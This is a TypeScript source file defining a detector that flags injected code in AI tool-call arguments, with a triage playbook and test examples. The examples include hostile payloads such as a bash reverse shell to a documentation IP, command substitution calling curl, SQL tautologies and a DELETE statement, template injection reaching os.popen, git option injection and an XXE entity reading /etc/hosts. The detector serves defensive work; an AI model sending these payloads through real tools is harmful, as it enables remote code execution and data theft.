/** An argument that is code where a word belongs: judged by the type of its field, never by raw text alone. */
import { z } from 'zod'
import { defineDetector, type Output } from '../../schemas/detector.ts'
import type { Json } from '../../schemas/event.ts'
import { calls, story } from '../../schemas/story.ts'
import { argumentsOf, hasOperatorKey } from '../signals/arguments.ts'
import { injectionIn } from '../signals/injections.ts'

const KEYS_MAX = 500

/** Names of members below `arguments`: a query object carries its attack in the name. */
function* operatorKeys(root: Json | undefined): Generator<string> {
  const open: (Json | undefined)[] = [root]
  let seen = 0
  for (let value = open.pop(); open.length > 0 || value !== undefined; value = open.pop()) {
    if (typeof value !== 'object' || value === null) continue
    for (const [key, inner] of Object.entries(value)) {
      seen += 1
      if (seen > KEYS_MAX) return
      if (/^\$(where|function|accumulator|expr)$/.test(key)) yield key
      open.push(inner)
    }
  }
}

export default defineDetector({
  id: 'argument-injection',
  title: 'Code in an argument that should be a word',
  why: 'Servers paste arguments into shells, queries and templates: CVE-2025-53967, CVE-2025-68144 and CVE-2025-6514 all began with a value that was not a value.',
  family: 'D11',
  severity: 'high',
  state: 'stable',
  version: 1,
  maps: {
    attack: ['T1059', 'T1190'],
    atlas: ['AML.T0050', 'AML.T0049'],
    cosai: ['MCP-T3', 'MCP-T4'],
    owaspMcp: ['MCP05'],
    owaspAsi: ['ASI05'],
    safeMcp: ['SAFE-T1101', 'SAFE-T1111'],
  },
  needs: ['arguments', 'toolName'],
  blindSpots: [
    'Fields that carry code by nature (command, script, sql) are judged for take-over patterns only.',
    'Whether it ran is seen by endpoint detection on the server’s machine.',
  ],
  playbook: [
    'Read {field} of {tool} on {server}: {excerpt}. Did the model write it, or does it stand in an earlier result?',
    'Look for the effect: command output or an error of a shell or database in the answer, and child processes of {server}.',
    'Stop {server} until its version quotes arguments; report it to its maintainer.',
  ],
  settings: z.object({ ignoreTools: z.array(z.string()).default([]) }),
  scope: 'event',
  reads: ['request', 'call'],
  methods: ['tools/call'],

  inspect({ subject, settings }) {
    const outputs: Output[] = []
    if (subject.kind !== 'event' || subject.event.arguments === undefined) return outputs
    const { event } = subject
    const tool = event.toolName ?? ''
    if (settings.ignoreTools.includes(tool)) return outputs
    const server = event.serverAlias ?? event.serverKey
    for (const { pointer, name, text, kind } of argumentsOf(event)) {
      const found = injectionIn(text, kind)
      if (!found) continue
      const { mark, excerpt } = found
      outputs.push({
        finding: `${event.serverKey} ${tool} ${name} ${mark.kind} ${excerpt}`,
        confidence: mark.severity === 'high' ? 0.85 : 0.7,
        severity: mark.severity,
        summary: `${tool}: ${name || 'an argument'} holds ${mark.label}`,
        evidence: { server, tool, field: name, pointer, kind: mark.kind, excerpt },
      })
    }
    if (!hasOperatorKey(event)) return outputs
    for (const key of new Set(operatorKeys(event.arguments))) {
      outputs.push({
        finding: `${event.serverKey} ${tool} ${key}`,
        confidence: 0.7,
        severity: 'medium',
        summary: `${tool}: a query operator ${key} that runs code`,
        evidence: { server, tool, field: key, pointer: '/arguments', kind: 'operator', excerpt: key },
      })
    }
    return outputs
  },

  examples: [
    {
      name: 'an option in place of a revision',
      story: story(calls('git', 'git_diff', { repo_path: '/srv/repo', target: '--output=/srv/out.txt' })),
      fires: [0],
    },
    {
      name: 'a second command behind a host name',
      story: story(calls('net', 'ping_host', { host: 'a.example; cat /etc/hosts' })),
      fires: [0],
    },
    { name: 'command substitution in a branch', story: story(calls('git', 'checkout', { branch: 'main$(curl a.example)' })), fires: [0] },
    { name: 'a tautology in an id', story: story(calls('shop', 'get_order', { order_id: "7' OR '1'='1" })), fires: [0] },
    {
      name: 'a template that reaches the runtime',
      story: story(calls('mail', 'render', { template: '{{ self.__init__.__globals__.os.popen("id") }}' })),
      fires: [0],
    },
    { name: 'an option in place of an address', story: story(calls('git', 'clone', { url: '--upload-pack=touch /srv/x' })), fires: [0] },
    { name: 'a second statement', story: story(calls('shop', 'get_order', { email: "x'; DELETE FROM orders; --" })), fires: [0] },
    {
      name: 'a title that is an expression and nothing else',
      story: story(calls('doc', 'render', { title: "{{ ''.__class__.__mro__ }}" })),
      fires: [0],
    },
    {
      name: 'a message that leaves its quotation',
      story: story(calls('git', 'commit', { message: 'fix"; curl https://a.example/x -o /srv/x; echo "' })),
      fires: [0],
    },
    {
      name: 'an external entity',
      story: story(calls('xml', 'parse', { xml: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>' })),
      fires: [0],
    },
    {
      name: 'a reverse shell in a command',
      story: story(calls('sh', 'run', { command: 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' })),
      fires: [0],
    },
    { name: 'a query object that runs code', story: story(calls('mongo', 'find', { filter: { $where: 'return true' } })), fires: [0] },
    {
      name: 'a shell tool doing its job',
      story: story(calls('sh', 'run', { command: 'cd src && ls -la | grep ts; echo done' })),
      fires: [],
    },
    {
      name: 'SQL in a SQL tool',
      story: story(calls('db', 'query', { sql: "SELECT id FROM t WHERE name = 'x' OR name = 'y' -- both" })),
      fires: [],
    },
    {
      name: 'code that is written',
      story: story(calls('fs', 'write_file', { path: 'a.sh', content: '#!/bin/sh\nrm -rf $(pwd)/out; echo `date`' })),
      fires: [],
    },
    {
      name: 'markdown with backticks',
      story: story(calls('gh', 'create_issue', { title: 'Fix `foo` & bar', body: 'run `npm test` && ship; see ${x}' })),
      fires: [],
    },
    {
      name: 'a report about a template attack',
      story: story(calls('gh', 'create_issue', { title: 'Escape templates', body: "The page runs {{ ''.__class__ }}; it should not." })),
      fires: [],
    },
    {
      name: 'a folder whose name begins like a command',
      story: story(calls('fs', 'read_file', { path: 'Type Juggling/notes.md' })),
      fires: [],
    },
    { name: 'mark-up in a list of people', story: story(calls('cal', 'add', { participants: '<p>a@b.example</p> </list>' })), fires: [] },
    { name: 'a placeholder in a path', story: story(calls('fs', 'read_file', { path: 'src/{{project.name}}/main.py' })), fires: [] },
    {
      name: 'a negative number and a dash',
      story: story(calls('map', 'move', { longitude: '-73.9', name: 'A - B', range: '-' })),
      fires: [],
    },
    { name: 'a search with operators', story: story(calls('gh', 'search_code', { query: 'repo:a/b "x" OR y -is:fork' })), fires: [] },
    {
      name: 'names with an apostrophe and an ampersand',
      story: story(calls('crm', 'find', { name: "O'Brien & Sons; Ltd", city: "L'Aquila" })),
      fires: [],
    },
    { name: 'a URL with a query', story: story(calls('web', 'fetch', { url: 'https://a.example/?a=1&b=2;c=3|d&id=7#x' })), fires: [] },
  ],
})
